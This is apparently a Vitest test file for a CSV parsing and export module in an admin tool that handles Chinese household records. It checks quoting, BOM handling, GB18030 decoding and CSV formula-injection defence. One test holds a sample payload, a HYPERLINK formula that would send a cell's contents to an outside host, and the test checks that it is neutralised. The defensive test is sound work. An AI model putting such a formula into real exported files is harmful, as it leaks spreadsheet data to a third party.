import { describe, expect, it } from 'vitest'
import { csvFile, decodeCsv, inertCell, parseCsv, toCsv } from '../../src/admin/lib/csv'

describe('parseCsv', () => {
  it('splits a file without quotes on lines, dropping empty lines like the server', () => {
    expect(parseCsv('户编号,户主姓名\r\nH1,张三\r\n\r\nH2,李四\n')).toEqual([
      ['户编号', '户主姓名'],
      ['H1', '张三'],
      ['H2', '李四'],
    ])
  })

  it('reads quoted fields with commas, quotes and line breaks, and keeps blank lines as empty rows', () => {
    const text = 'a,b\n"x, y","say ""hi"""\n\n"two\nlines",z'
    expect(parseCsv(text)).toEqual([['a', 'b'], ['x, y', 'say "hi"'], [], ['two\nlines', 'z']])
  })

  it('strips a BOM', () => {
    expect(parseCsv('\ufeffa,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ])
  })
})

describe('toCsv', () => {
  it('round-trips through parseCsv', () => {
    const rows = [
      ['户编号', '地址'],
      ['H1', '和明村1组, 3号'],
      ['H2', '他说"好"'],
    ]
    expect(parseCsv(toCsv(rows))).toEqual(rows)
  })

  it('writes a cell a spreadsheet would evaluate behind a quote, as the server does (OWASP CSV injection)', () => {
    const payload = '=HYPERLINK("http://x.cn/?"&G2,"点")'
    for (const lead of ['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠']) {
      expect(inertCell(lead + '1')).toBe("'" + lead + '1')
    }
    expect(toCsv([[payload, '张三', '1-2']])).toBe(`"'=HYPERLINK(""http://x.cn/?""&G2,""点"")",张三,1-2\r\n`)
    expect(parseCsv(toCsv([[payload, "'=x", "'plain"]]))).toEqual([[payload, "'=x", "'plain"]])
  })

  it('makes a UTF-8 file with a BOM', async () => {
    const file = csvFile([['a'], ['张']], 'x.csv')
    const bytes = new Uint8Array(await file.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(decodeCsv(bytes)).toBe('a\r\n张\r\n')
    expect(file.name).toBe('x.csv')
  })
})

describe('decodeCsv', () => {
  it('falls back to GB18030 when the bytes are not UTF-8 (Chinese Excel)', () => {
    // "张三" in GB18030
    const gbk = new Uint8Array([0xd5, 0xc5, 0xc8, 0xfd])
    expect(decodeCsv(gbk)).toBe('张三')
  })
})
